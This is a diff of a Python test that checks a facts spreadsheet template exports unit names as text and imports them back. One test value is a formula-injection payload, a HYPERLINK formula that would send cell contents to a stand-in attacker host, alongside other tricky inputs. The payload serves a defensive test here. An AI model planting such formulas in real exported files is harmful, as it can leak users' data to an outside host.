@@ -34,7 +34,7 @@ from bot.messages import storable_text
 from bot.worker import Worker
 from scoring import Quarter
 from storage.db import UnitOfWork
-from storage.models import QuarterFact, StoredFile, SummaryItem, Unit
+from storage.models import QuarterFactValue, StoredFile, SummaryItem, Unit
 from tests.admin_support import make_users, sign_in
 from tests.conftest import SUMMARY, Dialogue, add_unit, jpeg_bytes, shanghai
 
@@ -327,8 +327,9 @@ def test_the_facts_template_holds_every_name_as_text_and_imports_back(world, cli
         assert len(kept) >= len(units) - 6
         assert main(["--config", cfg, "facts", "import", str(path)]) == 0
         with UnitOfWork(services.session_factory) as uow:
-            staff = dict(uow.session.execute(
-                select(Unit.name, QuarterFact.staff_on_post).join(QuarterFact)).all())
+            staff = {name: value for name, value in uow.session.execute(
+                select(Unit.name, QuarterFactValue.value).join(QuarterFactValue)
+                .where(QuarterFactValue.name == "staff_on_post"))}
         assert sorted(staff.values()) == list(range(1, len(kept) + 1))
         assert staff['=HYPERLINK("http://evil.example/?d="&A1,"点我")'] is not None
         assert staff["\t=1+2"] is not None and staff["前\x07后"] is not None
